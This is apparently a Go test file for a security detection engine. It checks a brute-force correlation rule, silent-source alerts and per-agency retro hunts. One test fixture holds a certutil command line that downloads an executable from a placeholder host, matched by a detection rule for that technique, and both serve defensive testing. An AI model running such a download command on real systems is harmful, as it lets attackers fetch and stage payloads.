package detect

import (
	"context"
	"errors"
	"testing"
	"time"

	"github.com/kubu-gov/kubu/internal/authz"
	"github.com/kubu-gov/kubu/internal/store"
	"github.com/kubu-gov/kubu/internal/store/storetest"
)

const ruleBruteForce = `title: Failed logon (base)
id: 7f1f0d4e-0b6a-4f38-9d5c-0000000000a1
name: failed_logon_base
logsource: {product: windows, service: security}
detection:
  selection: {EventID: 4625}
  condition: selection
---
title: Brute force against one account
id: 7f1f0d4e-0b6a-4f38-9d5c-0000000000a2
level: critical
tags: [attack.t1110.001]
correlation:
  type: event_count
  rules: [failed_logon_base]
  group-by: [TargetUserName]
  timespan: 10m
  condition: {gte: 3}
`

// TestCorrelationSurvivesRestart feeds a brute-force correlation two
// failed logons, restarts detection, feeds the third: the saved state
// makes it fire once, in the right agency, and not for another agency's
// events of the same user.
func TestCorrelationSurvivesRestart(t *testing.T) {
	storetest.Engines(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db, Options{LeaseTTL: 3 * time.Second})
		e.addRule(t, ruleBruteForce)
		e.start(t)
		t0 := time.Now().UTC().Truncate(time.Millisecond)
		e.publish(t, "MOH", ev("MOH", "dc01", t0, failedLogon("admin")), ev("MOH", "dc01", t0.Add(time.Second), failedLogon("admin")))
		e.publish(t, "MOE", ev("MOE", "dc09", t0.Add(time.Second), failedLogon("admin"))) // another agency: counted apart
		waitFor(t, "the correlation to consume both batches", func() bool {
			return count(t, db, `SELECT COALESCE(MAX(last_seq), 0) FROM correlation_state`) >= 2
		})
		if n := len(e.alerts(t, AlertFilter{RuleID: "7f1f0d4e-0b6a-4f38-9d5c-0000000000a2"})); n != 0 {
			t.Fatalf("fired early: %d", n)
		}
		e.restart(t)
		e.publish(t, "MOH", ev("MOH", "dc01", t0.Add(2*time.Second), failedLogon("admin")))
		waitFor(t, "the correlation alert", func() bool {
			return len(e.alerts(t, AlertFilter{RuleID: "7f1f0d4e-0b6a-4f38-9d5c-0000000000a2"})) == 1
		})
		a := e.alerts(t, AlertFilter{RuleID: "7f1f0d4e-0b6a-4f38-9d5c-0000000000a2"})[0]
		if a.Kind != KindCorrelation || a.Agency != "MOH" || a.Level != "critical" || a.Group["group"] != "admin" {
			t.Fatalf("correlation alert %+v", a)
		}
		if n := len(e.alerts(t, AlertFilter{RuleID: "7f1f0d4e-0b6a-4f38-9d5c-0000000000a1"})); n != 0 {
			t.Fatalf("a base rule without generate raised %d alerts of its own", n)
		}
	})
}

// TestSilentSource raises one alert when a source stops sending, and
// another only after it spoke again and stopped again.
func TestSilentSource(t *testing.T) {
	db := storetest.Open(t, store.SQLite)
	e := newEnv(t, db, Options{SilenceAfter: 400 * time.Millisecond, LeaseTTL: 3 * time.Second})
	e.start(t)
	e.publish(t, "MOH", ev("MOH", "fw01", time.Now(), map[string]any{"msg": "hello"}))
	silence := func() []Alert { return e.alerts(t, AlertFilter{RuleID: SilenceRuleID}) }
	waitFor(t, "the silence alert", func() bool { return len(silence()) == 1 })
	// Sentinel: two more silence checks have run since the alert.
	checks := e.s.silenceChecks.Load()
	waitFor(t, "two more silence checks", func() bool { return e.s.silenceChecks.Load() >= checks+2 })
	if n := len(silence()); n != 1 || silence()[0].EventCount != 1 {
		t.Fatalf("a silent source alerted %d times", n)
	}
	a := silence()[0]
	if a.Kind != KindSilence || a.Agency != "MOH" || a.Group["host"] != "fw01" || a.Group["protocol"] != "hec" {
		t.Fatalf("silence alert %+v", a)
	}
	e.publish(t, "MOH", ev("MOH", "fw01", time.Now(), map[string]any{"msg": "back"}))
	waitFor(t, "a second silence", func() bool {
		al := silence()
		return len(al) == 1 && al[0].EventCount == 2
	})
}

const ruleNewTechnique = `title: Certutil download
id: 7f1f0d4e-0b6a-4f38-9d5c-0000000000c1
level: high
logsource: {category: process_creation, product: windows}
detection:
  selection:
    Image|endswith: '\certutil.exe'
    CommandLine|contains: urlcache
  condition: selection
`

// TestRetroHunt runs a new rule over retained events: progress, matches
// as retro alerts, no live alerts, tenancy of hunts.
func TestRetroHunt(t *testing.T) {
	storetest.Engines(t, func(t *testing.T, db *store.DB) {
		e := newEnv(t, db, Options{LeaseTTL: 3 * time.Second})
		e.start(t)
		t0 := time.Now().UTC()
		cert := map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": `C:\Windows\System32\certutil.exe`,
			"CommandLine": "certutil -urlcache -f http://x/a.exe"}
		other := map[string]any{"EventID": 1, "Channel": "Microsoft-Windows-Sysmon/Operational", "Image": `C:\Windows\notepad.exe`}
		for i := 0; i < 5; i++ {
			e.publish(t, "MOH", ev("MOH", "ws1", t0, cert), ev("MOH", "ws1", t0, other))
		}
		e.publish(t, "MOE", ev("MOE", "ws7", t0, cert))
		from, to := t0.Add(-time.Minute), time.Now().Add(time.Minute)

		h, err := e.s.CreateHunt(context.Background(), analyst, NewHunt{Rule: ruleNewTechnique, From: from, To: to})
		if err != nil {
			t.Fatal(err)
		}
		var got Hunt
		waitFor(t, "the hunt", func() bool {
			got, err = e.s.HuntByID(context.Background(), analyst, h.ID)
			return err == nil && got.Status == HuntDone
		})
		if got.EventsScanned != 11 || got.Matches != 6 {
			t.Fatalf("hunt %+v", got)
		}
		retro := true
		al := e.alerts(t, AlertFilter{HuntID: h.ID, Retro: &retro})
		if len(al) != 2 || !al[0].Retro {
			t.Fatalf("retro alerts %+v", al)
		}
		if live := e.alerts(t, AlertFilter{HuntID: "", Retro: new(bool)}); len(live) != 0 {
			t.Fatalf("a hunt raised live alerts: %+v", live)
		}

		// A MOE member hunts MOE's events only, and cannot see the analyst's hunt.
		member := authz.Actor{UserID: "m", Role: authz.AgencyMember, AgencyID: e.agencies["MOE"]}
		mh, err := e.s.CreateHunt(context.Background(), member, NewHunt{Rule: ruleNewTechnique, From: from, To: to})
		if err != nil {
			t.Fatal(err)
		}
		waitFor(t, "the member's hunt", func() bool {
			got, err = e.s.HuntByID(context.Background(), member, mh.ID)
			return err == nil && got.Status == HuntDone
		})
		if got.EventsScanned != 1 || got.Matches != 1 {
			t.Fatalf("member's hunt scanned other agencies: %+v", got)
		}
		if _, err := e.s.HuntByID(context.Background(), member, h.ID); !errors.Is(err, authz.ErrNotFound) {
			t.Fatalf("member reading the analyst's hunt: %v", err)
		}
		page, err := e.s.ListHunts(context.Background(), member, "", 0)
		if err != nil || len(page.Items) != 1 {
			t.Fatalf("member's hunts %v %v", page.Items, err)
		}
		if _, err := e.s.CreateHunt(context.Background(), analyst, NewHunt{RuleID: "no-such-rule", From: from}); !isInvalid(err) {
			t.Fatalf("unknown rule id: %v", err)
		}
		if _, err := e.s.CreateHunt(context.Background(), analyst, NewHunt{Rule: ruleNewTechnique, From: to, To: from}); !isInvalid(err) {
			t.Fatalf("reversed range: %v", err)
		}
	})
}
